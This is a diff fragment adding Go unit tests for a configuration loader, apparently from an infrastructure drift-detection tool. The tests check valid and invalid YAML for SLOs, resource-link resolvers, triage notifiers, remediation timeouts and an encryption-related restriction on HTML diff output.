+		t.Errorf("Expected 24h and 95%%, got %v and %v", within, target)
+	}
+	if !slo.Applies([]string{"dev", "prod"}) || slo.Applies([]string{"dev"}) {
+		t.Error("Expected the SLO to cover only projects tagged prod")
+	}
+
+	for _, invalid := range []string{
+		"slos:\n  - name: prod\n",
+		"slos:\n  - name: prod\n    resolve_within: 0s\n",
+		"slos:\n  - name: prod\n    resolve_within: 1d\n    target: 120\n",
+		"slos:\n  - name: prod\n    resolve_within: 1d\n    notifiers: [missing]\n",
+		"slos:\n  - name: prod\n    resolve_within: 1d\n  - name: prod\n    resolve_within: 2d\n",
+	} {
+		if _, err := write(invalid); err == nil {
+			t.Errorf("Expected an error for %q", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_ResourceLinks(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(links string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n" + links
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	cfg, err := write("")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if !cfg.ResourceLinks.BuiltinEnabled() {
+		t.Error("Expected the built-in links by default")
+	}
+
+	cfg, err = write("resource_links:\n  builtin: false\n  resolvers:\n    - name: cmdb\n      types: [\"aws_*\"]\n" +
+		"      url: https://cmdb.example.com/ci?id={attributes.id}&type={type}\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.ResourceLinks.BuiltinEnabled() || len(cfg.ResourceLinks.Resolvers) != 1 {
+		t.Errorf("Unexpected resource links %+v", cfg.ResourceLinks)
+	}
+
+	for _, invalid := range []string{
+		"resource_links:\n  resolvers:\n    - url: https://cmdb.example.com/{address}\n",
+		"resource_links:\n  resolvers:\n    - name: cmdb\n      url: https://cmdb.example.com/{project}\n",
+		"resource_links:\n  resolvers:\n    - name: cmdb\n      url: cmdb.example.com/{address}\n",
+		"resource_links:\n  resolvers:\n    - name: cmdb\n      url: https://a.example.com/{address}\n    - name: cmdb\n      url: https://b.example.com/{address}\n",
+	} {
+		if _, err := write(invalid); err == nil {
+			t.Errorf("Expected an error for %q", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_Triage(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(notifier string) error {
+		content := "projects:\n  - name: app\n    path: ./app\n" +
+			"notifiers:\n  - name: jira\n    type: webhook\n    config:\n      url: https://jira.example.com/hooks/drift\n" +
+			"triage:\n  ticket_notifiers: [" + notifier + "]\n"
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		_, err := LoadConfig(configPath)
+		return err
+	}
+
+	if err := write("jira"); err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if err := write("missing"); err == nil {
+		t.Error("Expected an error for an unknown ticket notifier")
+	}
+}
+
+func TestLoadConfig_Remediation(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	write := func(remediation string) (*Config, error) {
+		content := "projects:\n  - name: app\n    path: ./app\n" + remediation
+		if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		return LoadConfig(configPath)
+	}
+
+	// Plans are kept in the state storage, so an empty block enables remediation
+	cfg, err := write("remediation: {}\n")
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cfg.Remediation == nil {
+		t.Fatal("Expected remediation to be enabled")
+	}
+	if timeout, _ := cfg.Remediation.Timeout(); timeout != DefaultApplyTimeout {
+		t.Errorf("Expected the default apply timeout, got %v", timeout)
+	}
+
+	for _, invalid := range []string{"remediation:\n  apply_timeout: soon\n", "remediation:\n  apply_timeout: 0s\n"} {
+		if _, err := write(invalid); err == nil {
+			t.Errorf("Expected an error for %q", invalid)
+		}
+	}
+}
+
+func TestLoadConfig_HTMLDiffsEncryption(t *testing.T) {
+	tempDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(tempDir, "app"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	configPath := filepath.Join(tempDir, "config.yml")
+	content := "projects:\n  - name: app\n    path: ./app\n" +
+		"storage:\n  encryption_key: " + base64.StdEncoding.EncodeToString(make([]byte, 32)) + "\n" +
+		"html_diffs:\n  dir: ./diffs\n"
+	if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	// The pages would leave the plan unencrypted next to the encrypted state
+	if _, err := LoadConfig(configPath); err == nil || !strings.Contains(err.Error(), "html_diffs") {
+		t.Errorf("Expected html_diffs to be refused with an encryption key, got %v", err)
+	}
+}